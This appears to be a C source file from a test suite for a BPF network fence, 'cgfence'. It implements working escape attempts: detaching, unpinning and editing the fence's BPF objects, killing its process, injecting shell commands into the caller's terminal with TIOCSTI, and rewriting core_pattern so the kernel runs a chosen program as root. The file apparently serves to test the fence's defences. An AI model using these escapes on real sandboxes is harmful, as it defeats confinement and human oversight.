// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/* The fence itself: its links, its maps, its process; and what the kernel or a shell runs for us.
 */
#include <errno.h>
#include <fcntl.h>
#include <glob.h>
#include <linux/bpf.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "cgfence.h"
#include "escape.h"

#define PINS "/sys/fs/bpf/cgfence"
#define MARK "/sys/fs/bpf/laboratory"

static int bpf(enum bpf_cmd command, union bpf_attr *attributes)
{
	return (int)syscall(SYS_bpf, command, attributes, sizeof(*attributes));
}

/*
 * The laboratory has marked its own BPF file system. If another is over it, that one goes; what may
 * be below it belongs to the machine, and is left alone.
 */
static bool uncover(void)
{
	if (!access(MARK, F_OK))
		return true;
	if (unshare(CLONE_NEWNS) || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL))
		return false;
	return !umount2("/sys/fs/bpf", MNT_DETACH) && !access(MARK, F_OK);
}

/* Does it to everything that is pinned at the pattern; then the way is free, or it is not. */
static int with_pins(const char *pattern, const struct attempt *attempt,
		     int (*change)(int fd, const struct attempt *attempt))
{
	glob_t pins = { 0 };
	int changed = 0, fd;

	if (!uncover())
		return 0;
	glob(pattern, 0, NULL, &pins);
	for (size_t i = 0; i < pins.gl_pathc; i++) {
		union bpf_attr attributes = { .pathname = (uintptr_t)pins.gl_pathv[i] };

		fd = bpf(BPF_OBJ_GET, &attributes);
		changed += fd >= 0 && !change(fd, attempt);
	}
	globfree(&pins);
	return changed;
}

static int detach_link(int fd, const struct attempt *attempt)
{
	union bpf_attr attributes = { .link_detach = { .link_fd = (__u32)fd } };

	(void)attempt;
	return bpf(BPF_LINK_DETACH, &attributes);
}

static int detach(struct attempt *attempt)
{
	with_pins(PINS "/links/*/*", attempt, detach_link);
	return escape_send(attempt);
}

static int unpin(struct attempt *attempt)
{
	glob_t pins = { 0 };

	if (uncover())
		glob(PINS "/links/*/*", 0, NULL, &pins);
	for (size_t i = 0; i < pins.gl_pathc; i++)
		unlink(pins.gl_pathv[i]);
	globfree(&pins);
	/* The kernel detaches a little later. */
	poll(NULL, 0, attempt->timeout_ms);
	return escape_send(attempt);
}

static int allow(int fd, const struct attempt *attempt)
{
	struct cgf_key key = { .address = { [10] = 0xff, [11] = 0xff },
			       .port = ntohs(attempt->to.ipv4.sin_port),
			       .protocol = IPPROTO_UDP,
			       .port_bits = CGF_PORT_BITS_ONE };
	struct cgf_entry entry = { .expires_ns = CGF_NEVER_EXPIRES };
	union bpf_attr attributes = { .map_fd = (__u32)fd,
				      .key = (uintptr_t)&key,
				      .value = (uintptr_t)&entry };

	memcpy(&key.address[12], &attempt->to.ipv4.sin_addr, 4);
	return bpf(BPF_MAP_UPDATE_ELEM, &attributes);
}

static int edit_map(struct attempt *attempt)
{
	with_pins(PINS "/policies/*/allow", attempt, allow);
	return escape_send(attempt);
}

/* Only a fence has a cgfence above us: whoever else is there stays. */
static int kill_cgfence(struct attempt *attempt)
{
	char path[64], name[32] = "";
	int parent = 0, process = getppid();
	FILE *file;

	for (int i = 0; i < 2; i++, process = parent) {
		snprintf(path, sizeof(path), "/proc/%d/stat", process);
		file = fopen(path, "re");
		if (!file || fscanf(file, "%*d (%31[^)]) %*c %d", name, &parent) != 2)
			return fail(path);
		fclose(file);
		if (!strcmp(name, "cgfence"))
			kill(process, SIGKILL);
	}
	return escape_send(attempt);
}

/* Types a command for the shell that reads the terminal once this is over. */
static int type_by(struct attempt *attempt, unsigned long request)
{
	char line[512];

	snprintf(line, sizeof(line), "%s/escape send %s %d\n", attempt->directory, attempt->payload,
		 ntohs(attempt->to.ipv4.sin_port));
	for (const char *c = line; *c; c++)
		if (syscall(SYS_ioctl, STDIN_FILENO, request, c))
			return fail("TIOCSTI");
	puts("OK");
	return 0;
}

static int type_command(struct attempt *attempt)
{
	return type_by(attempt, TIOCSTI);
}

/* A filter sees 64 bits of what the kernel takes as 32. */
static int type_high_bits(struct attempt *attempt)
{
	return type_by(attempt, TIOCSTI | 1UL << 32);
}

static int write_text(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	bool done = fd >= 0 && write(fd, text, strlen(text)) == (ssize_t)strlen(text);

	if (fd >= 0)
		close(fd);
	return done ? 0 : -1;
}

/* A crash has the kernel run the program of our choice, as root and in no cgroup. */
static int crash(void)
{
	pid_t pid = fork();
	int status;

	if (pid == 0)
		abort();
	return waitpid(pid, &status, 0) == pid ? 0 : -1;
}

static int core_pattern_at(struct attempt *attempt, const char *path)
{
	char line[256], old[256] = "";
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	if (fd < 0 || read(fd, old, sizeof(old) - 1) <= 0)
		return -1;
	close(fd);
	/* 128 bytes is all there is room for. */
	snprintf(line, sizeof(line), "|%s/escape core %%P %s %d", attempt->directory,
		 attempt->payload, ntohs(attempt->to.ipv4.sin_port));
	if (strlen(line) > 127 || write_text(path, line))
		return -1;
	crash();
	return write_text(path, old);
}

static int core_pattern(struct attempt *attempt)
{
	char second[256];

	snprintf(second, sizeof(second), "%s/proc/sys/kernel/core_pattern", attempt->directory);
	if (core_pattern_at(attempt, second) &&
	    core_pattern_at(attempt, "/proc/sys/kernel/core_pattern"))
		return fail("core_pattern");
	puts("OK");
	return 0;
}

#define ROOT (ESCAPE_ONCE | ESCAPE_ROOT)

const struct escape escape_break[] = {
	{ "core-pattern", "a program that the kernel runs (`core_pattern`)", core_pattern,
	  ROOT | ESCAPE_OPEN_FULL, "read-only `/proc/sys`", "root writes kernel settings" },
	{ "map-edit", "an entry of its own in the fence's maps", edit_map,
	  ESCAPE_ONCE | ESCAPE_OPEN_FULL, "namespaces", "`CAP_SYS_ADMIN`" },
	{ "terminal", "typing into the terminal of the caller (`TIOCSTI`)", type_command,
	  ESCAPE_ONCE | ESCAPE_TERMINAL | ESCAPE_OPEN_USER | ESCAPE_OPEN_DOCKER | ESCAPE_OPEN_FULL,
	  "seccomp", "`--no-seccomp`" },
	{ "terminal-high", "the same, with bits that the kernel ignores", type_high_bits,
	  ESCAPE_ONCE | ESCAPE_TERMINAL | ESCAPE_OPEN_USER | ESCAPE_OPEN_DOCKER | ESCAPE_OPEN_FULL,
	  "seccomp", "`--no-seccomp`" },
	{ "detach", "detaching the fence's links", detach,
	  ESCAPE_ONCE | ESCAPE_ALONE | ESCAPE_OPEN_FULL, "namespaces", "`CAP_SYS_ADMIN`" },
	{ "unpin", "removing what is pinned", unpin, ESCAPE_ONCE | ESCAPE_ALONE | ESCAPE_OPEN_FULL,
	  "namespaces", "`CAP_SYS_ADMIN`" },
	{ "kill", "killing cgfence", kill_cgfence, ESCAPE_ONCE | ESCAPE_ALONE },
	{ 0 },
};
